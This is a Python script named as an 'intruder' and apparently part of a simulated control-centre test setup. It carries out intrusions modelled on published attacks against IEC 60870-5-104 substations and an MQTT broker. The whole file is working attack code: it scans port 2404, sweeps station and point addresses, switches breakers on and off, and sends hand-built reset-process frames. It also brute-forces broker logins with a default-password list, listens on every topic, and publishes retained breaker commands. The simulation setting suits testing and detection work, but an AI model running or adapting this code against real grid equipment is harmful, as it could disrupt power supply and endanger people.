"""The intruder, on a workstation of the control centre's network: `intruder.py iec104|mqtt`.

Every step is what published intrusions did: look for stations, sweep common addresses and points, read,
switch; guess logins, listen to everything, publish a command.
"""

import socket
import struct
import sys
import time

import c104
import paho.mqtt.client as paho

import plan
from control import start, wait_until
from mqtt import Peer

T = plan.T
ORIGINATOR = 66
TESTFR_ACT = bytes.fromhex("680443000000")
STARTDT_ACT = bytes.fromhex("680407000000")
C_RP_NA_1 = 105  # reset process


def scan() -> None:
    """Who answers on port 2404? Among them two hosts that are no stations."""
    for ip in (plan.BROKER, "10.40.12.11", *(ip for ip, _ in plan.STATIONS.values())):
        try:
            with socket.create_connection((ip, plan.IEC104_PORT), timeout=1) as link:
                link.sendall(TESTFR_ACT)
                link.recv(255)
                hang_up(link)
        except ConnectionRefusedError:
            continue


def open_links() -> tuple[c104.Client, list[c104.Connection]]:
    """One link a station, each started (STARTDT)."""
    client = c104.Client(tick_rate_ms=50, command_timeout_ms=1000)
    client.originator_address = ORIGINATOR
    links = [plan.connect_muted(client, ip) for ip, _ in plan.STATIONS.values()]
    client.start()
    wait_until(lambda: all(link.is_connected for link in links), "the links")
    for link in links:
        start(link)
    return client, links


def sweep_stations(link: c104.Connection, common_addresses: range) -> None:
    """Most answers say: unknown common address (cause 46)."""
    for ca in common_addresses:
        link.interrogation(ca)


def sweep_reading(station: c104.Station, addresses: range) -> None:
    """Reads point after point; the gaps answer: unknown information object address (cause 47)."""
    for ioa in addresses:
        point = station.get_point(ioa) or station.add_point(ioa, T.M_ME_NC_1)
        point.read()


def sweep_switching(station: c104.Station, addresses: range) -> None:
    """Switches whatever answers, on and off, over consecutive addresses."""
    for ioa in addresses:
        point = station.add_point(ioa, T.C_SC_NA_1)
        for state in (True, False):
            point.value = state
            point.transmit(c104.Cot.ACTIVATION)


def switch_breakers(station: c104.Station) -> None:
    """Selects and executes, off, on and off again: breaker and disconnector; then one without selecting."""
    for ioa in (5101, 5102):
        point = station.add_point(ioa, T.C_DC_NA_1, command_mode=plan.SBO)
        for state in (c104.Double.OFF, c104.Double.ON, c104.Double.OFF):
            point.value = state
            if not point.transmit(c104.Cot.ACTIVATION):
                sys.exit(f"intruder: {station.common_address}/{ioa} did not switch")
            time.sleep(0.1)
    point.command_mode = plan.DIRECT
    point.value = c104.Double.ON
    point.transmit(c104.Cot.ACTIVATION)


def reset(ip: str, common_address: int) -> None:
    """Reset of the process; the client library has no such call."""
    asdu = struct.pack("<BBBBH", C_RP_NA_1, 1, 6, ORIGINATOR, common_address) + bytes((0, 0, 0, 1))
    with socket.create_connection((ip, plan.IEC104_PORT), timeout=1) as link:
        link.sendall(STARTDT_ACT)
        link.recv(255)
        link.sendall(struct.pack("<BBHH", 0x68, 4 + len(asdu), 0, 0) + asdu)
        link.recv(255)
        hang_up(link)


def hang_up(link: socket.socket) -> None:
    """Closes in order: with answers unread the kernel would reset."""
    link.shutdown(socket.SHUT_WR)
    for _ in range(100):
        if not link.recv(255):
            break


def attack_stations() -> None:
    plan.go_first()
    scan()
    client, links = open_links()
    for link, common_addresses in zip(links, (range(1, 41), range(15, 36), range(25, 46)), strict=True):
        sweep_stations(link, common_addresses)
    stations = [
        link.get_station(ca) or link.add_station(ca)
        for link, (_, cas) in zip(links, plan.STATIONS.values(), strict=True)
        for ca in cas
    ]
    sweep_reading(stations[0], range(1001, 1031))
    sweep_reading(stations[3], range(2095, 2110))
    sweep_switching(stations[2], range(5001, 5021))
    for station in stations:
        switch_breakers(station)
    client.stop()
    for ip, common_addresses in plan.STATIONS.values():
        reset(ip, common_addresses[0])


LOGINS = (
    ("admin", "admin"), ("admin", "password"), ("admin", "123456"), ("root", "root"), ("root", "toor"),
    ("mqtt", "mqtt"), ("mosquitto", "mosquitto"), ("scada", "scada"), ("operator", "operator"),
    ("collector", "collector"), ("collector", "123456"), ("meter-4711", "4711"),
)
COMMAND = "grid/north/feeder12/breaker/command"


def attack_broker() -> None:
    for version in (paho.MQTTv311, paho.MQTTv5):
        for user, password in LOGINS:
            Peer(user, version, password=password, client_id="mqtt-explorer-66").connect()
    peer = Peer("guest", paho.MQTTv311, client_id="mqtt-explorer-66")
    peer.must_connect()
    peer.subscribe("#", qos=0)
    peer.subscribe("$SYS/#", qos=0)
    time.sleep(2)
    for position in ("open", "close", "open"):
        peer.publish(COMMAND, f'{{"position":"{position}"}}', qos=1, retain=position == "open")
    time.sleep(0.5)
    peer.disconnect()


if __name__ == "__main__":
    {"iec104": attack_stations, "mqtt": attack_broker}[sys.argv[1]]()
